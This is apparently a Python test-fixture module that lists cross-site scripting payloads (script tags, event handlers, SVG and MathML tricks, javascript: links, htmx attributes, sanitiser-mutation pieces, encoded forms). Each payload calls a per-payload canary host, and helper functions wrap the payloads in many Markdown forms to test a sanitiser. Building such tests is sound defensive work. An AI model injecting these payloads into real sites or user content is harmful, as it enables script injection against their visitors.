"""Texts that try to run, load, submit or leave. Kinds after OWASP's lists; host and words are ours.

In each, HOST becomes a host of its own that nobody has, so that a request tells which text sent it.
"""

from itertools import chain

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=//HOST/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "';alert(1);//",
    '<script type=module>import("//HOST/m.js")</script>',
    "<script type=importmap>{}</script><script>alert(1)</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=//HOST/i.png>",
    '<img srcset="//HOST/s.png 1x">',
    '"><img src=x onerror=alert(1)>',
    '" onmouseover=alert(1) x="',
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) `",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=//HOST/v autoplay onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<a href=x onclick=alert(1)>x</a>",
]
PICTURES_AND_FORMULAS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><image href=//HOST/s.svg></svg>",
    '<svg><use href="//HOST/u.svg#x"></svg>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\style{background:url(//HOST/m)}{x}$",
    r"$\class{x' onclick='alert(1)}{x}$",
    r"$\color{red;background:url(//HOST/c)}{x}$",
]
LINKS = [
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](//HOST/md.png)",
    '![x](x "onerror=alert(1)")',
    r'[x](/ok "\" onclick=alert(1) x=\"")',
    "[x](/ok' onclick='alert(1))",
    '<a href="/ok" ping="//HOST/ping" target="_blank">x</a>',
]
HTMX = [
    '<div hx-get="//HOST/hx" hx-trigger="load">x</div>',
    '<div data-hx-get="/HOST/hx" data-hx-trigger="load">x</div>',
    '<div hx-on::load="alert(1)" hx-on:click="alert(1)">x</div>',
    "<div hx-post=/HOST/hx hx-trigger=load hx-vals='js:{a: alert(1)}'>x</div>",
    '<div hx-get="/HOST/hx" hx-trigger="every 100ms[alert(1)]">x</div>',
    '<meta name="htmx-config" content=\'{"selfRequestsOnly": false}\'>',
    '" hx-get="/HOST/hx" hx-trigger="load',
]
ELEMENTS = [
    '<style>@import "//HOST/c.css";</style>',
    "<style>*{background:url(//HOST/b)}</style>",
    '<p style="background:url(//HOST/p)">x</p>',
    "<link rel=stylesheet href=//HOST/l.css>",
    "<link rel=prefetch href=//HOST/pre>",
    "<iframe src=//HOST/f></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<object data=//HOST/o></object>",
    "<embed src=//HOST/e>",
    "<base href=//HOST/>",
    '<meta http-equiv=refresh content="0;url=//HOST/r">',
    "<form action=//HOST/f><input name=q><button>x</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
    '<button class="term" popovertarget="keys" onclick="alert(1)">x</button>',
    "<template><img src=x onerror=alert(1)></template>",
    "<x-thing onclick=alert(1)>x</x-thing>",
    "<portal src=//HOST/p></portal>",
]
# Pieces that mean one thing to a sanitiser and another to a browser.
MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mi><table><style><!--</style><img src=x onerror=alert(1)>-->",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<p title="`--><img src=x onerror=alert(1)>">x</p>',
    "<b><i></b><img src=x onerror=alert(1)></i>",
    "<a id=location name=location href=//HOST/>x</a>",
    '<p id="main" name="cookie">x</p>',
]
LETTERS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "${alert(1)} {{7*7}} {% debug %} #{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<mark>x</mark><img src=x onerror=alert(1)>",
]
GROUPS = [SCRIPTS, HANDLERS, PICTURES_AND_FORMULAS, LINKS, HTMX, ELEMENTS, MUTATIONS, LETTERS]
PAYLOADS = [text.replace("HOST", f"canary{number}.test") for number, text in enumerate(chain.from_iterable(GROUPS))]

# Ways to write a text into Markdown; %s is the text.
DRESSES = [
    "%s",
    "Before %s after",
    "**%s**",
    "[%s](/ok)",
    '[x](/ok "%s")',
    "`%s`",
    "> %s",
    "- %s",
    "### %s",
    "| a |\n|---|\n| %s |",
    "```html\n%s\n```",
    "```%s\nx\n```",
    "$%s$",
    "$$\n%s\n$$",
]


def dressed(dresses: list[str]) -> str:
    """One Markdown text with every payload in each of these ways."""
    return "\n\n".join(dress % payload for dress in dresses for payload in PAYLOADS)


def short(length: int) -> list[str]:
    """The payloads of one line that fit into a field of this length."""
    return [payload for payload in PAYLOADS if len(payload) <= length and "\n" not in payload]
